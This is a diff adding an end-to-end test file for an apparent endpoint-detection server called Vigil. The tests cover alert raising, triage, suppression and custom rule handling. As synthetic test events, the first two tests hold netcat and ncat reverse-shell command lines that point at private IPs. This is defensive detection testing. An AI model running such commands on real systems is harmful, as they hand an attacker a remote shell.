@@ -1,0 +1,166 @@
+// Detection in the embedded server, end to end over the real ingest path: an event sent by an agent raises
+// the built-in netcat rule's alert (with the rule's author), analysts triage it through the API, rules are
+// uploaded (a broken one is refused with its error), disabled, and all of it survives a restart.
+
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pino } from 'pino';
+import { startEmbeddedServer, type RunningServer } from '../../src/server/embedded.ts';
+import { SimulatedAgent } from '../../src/agent/simulator.ts';
+import type { VigilEvent } from '../../src/schema/event.ts';
+
+let dir: string;
+let server: RunningServer;
+let apiKey: string;
+let agent: SimulatedAgent;
+
+const start = () => startEmbeddedServer({ dataDir: dir, http: '127.0.0.1:0', grpc: '127.0.0.1:0', log: pino({ level: 'silent' }) });
+
+before(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'vigil-detect-'));
+  server = await start();
+  apiKey = readFileSync(server.adminKeyPath, 'utf8').trim();
+  agent = await SimulatedAgent.enroll(server.grpcAddress, server.caPem, await server.createEnrollmentToken(), 'detect-host');
+  agent.connect();
+});
+
+after(async () => {
+  agent.close();
+  await server.stop();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+async function api(method: string, path: string, body?: unknown): Promise<{ status: number; body: any }> {
+  const res = await fetch(`${server.httpUrl}${path}`, {
+    method, headers: { authorization: `Bearer ${apiKey}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    body: body === undefined ? undefined : JSON.stringify(body),
+  });
+  return { status: res.status, body: await res.json() };
+}
+
+async function eventually<T>(probe: () => Promise<T | undefined>, what: string): Promise<T> {
+  const until = Date.now() + 15_000;
+  for (;;) {
+    const v = await probe();
+    if (v !== undefined) return v;
+    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 50));
+  }
+}
+
+function processStart(exe: string, args: string[]): VigilEvent {
+  const e = agent.syntheticEvents(1)[0];
+  e.process = { ...e.process!, executable: exe, name: exe.split('/').pop(), args, command_line: args.join(' ') };
+  return e;
+}
+
+async function alertsFor(eventId: string): Promise<any[]> {
+  const r = await api('GET', '/api/v1/alerts?limit=1000');
+  return r.body.alerts.filter((a: any) => a.event_ids.includes(eventId));
+}
+
+test('a netcat reverse shell raises the built-in alert, with author and MITRE techniques, and is triaged', async () => {
+  const ev = processStart('/usr/bin/nc', ['/usr/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh']);
+  const benign = processStart('/usr/bin/nc', ['/usr/bin/nc', '-z', '10.9.8.7', '22']);
+  await agent.send([ev, benign]);
+  const [alert] = await eventually(async () => ((await alertsFor(ev.event.id)).length ? alertsFor(ev.event.id) : undefined), 'the alert');
+  assert.equal(alert.rule.title, 'Netcat Reverse Shell');
+  assert.equal(alert.rule.author, 'Vigil');
+  assert.equal(alert.severity, 'high');
+  assert.equal(alert.status, 'open');
+  assert.equal(alert.host_id, agent.identity.agentId);
+  assert.equal(alert.process_entity_id, ev.process!.entity_id);
+  assert.ok(alert.techniques.some((t: any) => t.id === 'T1059.004' && t.name && t.tactics.length), JSON.stringify(alert.techniques));
+  assert.deepEqual(await alertsFor(benign.event.id), [], 'a port scan without -e is no reverse shell');
+
+  await agent.send([ev]); // a re-delivered event does not raise a second alert
+  await new Promise((r) => setTimeout(r, 300));
+  assert.equal((await alertsFor(ev.event.id)).length, 1);
+
+  const acked = await api('POST', `/api/v1/alerts/${alert.id}/acknowledge`, {});
+  assert.equal(acked.body.status, 'acknowledged');
+  await api('POST', `/api/v1/alerts/${alert.id}/comment`, { text: 'looking into it' });
+  await api('POST', `/api/v1/alerts/${alert.id}/assign`, { assignee: 'alice' });
+  const closed = await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'red team exercise' });
+  assert.equal(closed.body.status, 'closed');
+  assert.equal(closed.body.close_reason, 'red team exercise');
+  assert.equal(closed.body.assignee, 'alice');
+  assert.deepEqual(closed.body.comments.map((c: any) => c.text), ['looking into it']);
+  assert.equal((await api('POST', `/api/v1/alerts/${alert.id}/close`, {})).status, 400, 'closing needs a reason');
+  assert.equal((await api('POST', '/api/v1/alerts/no-such-alert/acknowledge', {})).status, 404);
+  const filtered = await api('GET', '/api/v1/alerts?status=closed&severity=high');
+  assert.ok(filtered.body.alerts.some((a: any) => a.id === alert.id));
+  assert.equal((await api('GET', '/api/v1/alerts?status=bogus')).status, 400);
+});
+
+test('a suppressed rule keeps raising alerts, but they arrive suppressed until the expiry', async () => {
+  const first = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.1', '9001', '--sh-exec', 'sh']);
+  await agent.send([first]);
+  const [a] = await eventually(async () => ((await alertsFor(first.event.id)).length ? alertsFor(first.event.id) : undefined), 'the alert');
+  const until = new Date(Date.now() + 3_600_000).toISOString();
+  const s = await api('POST', `/api/v1/alerts/${a.id}/suppress`, { reason: 'known admin script', until });
+  assert.equal(s.body.status, 'suppressed');
+  const second = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.2', '9001', '--sh-exec', 'sh']);
+  await agent.send([second]);
+  const [b] = await eventually(async () => ((await alertsFor(second.event.id)).length ? alertsFor(second.event.id) : undefined), 'the second alert');
+  assert.equal(b.status, 'suppressed');
+  assert.equal(b.suppressed_until, until);
+});
+
+const CUSTOM_RULE = `title: Test marker tool
+id: 0c4b8f9e-1111-4a2b-9c3d-5e6f7a8b9c0d
+status: experimental
+author: Vigil tests
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: '/vigil-marker-tool'
+  condition: selection
+level: medium
+`;
+
+test('rules: a broken upload is refused with its error; a good one detects, can be disabled, and survives a restart', async () => {
+  const broken = await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE.replace('condition: selection', 'condition: selection and missing') });
+  assert.equal(broken.status, 400);
+  assert.match(broken.body.errors[0].message, /missing/);
+
+  const created = await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE });
+  assert.equal(created.status, 201, JSON.stringify(created.body));
+  const id = created.body.ids[0];
+  assert.equal(created.body.rules[0].source, 'custom');
+  assert.equal((await api('POST', '/api/v1/rules', { yaml: CUSTOM_RULE })).status, 409, 'the same id twice');
+
+  const hit = processStart('/opt/x/vigil-marker-tool', ['/opt/x/vigil-marker-tool', '--go']);
+  const dry = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
+  assert.equal(dry.status, 200);
+  await agent.send([hit]);
+  const [alert] = await eventually(async () => ((await alertsFor(hit.event.id)).length ? alertsFor(hit.event.id) : undefined), 'the custom alert');
+  assert.equal(alert.rule.author, 'Vigil tests');
+  const dryAfter = await api('POST', '/api/v1/rules/test', { yaml: CUSTOM_RULE, hours: 1 });
+  assert.ok(dryAfter.body.matches >= 1, 'the dry run finds the stored event');
+
+  assert.equal((await api('POST', `/api/v1/rules/${id}/disable`)).body.enabled, false);
+  const missed = processStart('/opt/y/vigil-marker-tool', ['/opt/y/vigil-marker-tool']);
+  await agent.send([missed]);
+  await new Promise((r) => setTimeout(r, 500));
+  assert.deepEqual(await alertsFor(missed.event.id), [], 'a disabled rule raises nothing');
+  assert.equal((await api('DELETE', '/api/v1/rules/5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001')).status, 409, 'built-in rules are read-only');
+
+  agent.close();
+  await server.stop();
+  server = await start();
+  agent = await SimulatedAgent.enroll(server.grpcAddress, server.caPem, await server.createEnrollmentToken(), 'detect-host-2');
+  agent.connect();
+  const after = await api('GET', `/api/v1/rules/${id}`);
+  assert.equal(after.status, 200);
+  assert.equal(after.body.enabled, false, 'the switch survived the restart');
+  assert.equal(after.body.text, CUSTOM_RULE);
+  assert.ok((await alertsFor(hit.event.id)).length === 1, 'alerts survive the restart');
+  assert.equal((await api('DELETE', `/api/v1/rules/${id}`)).status, 200);
+  assert.equal((await api('GET', `/api/v1/rules/${id}`)).status, 404);
+});
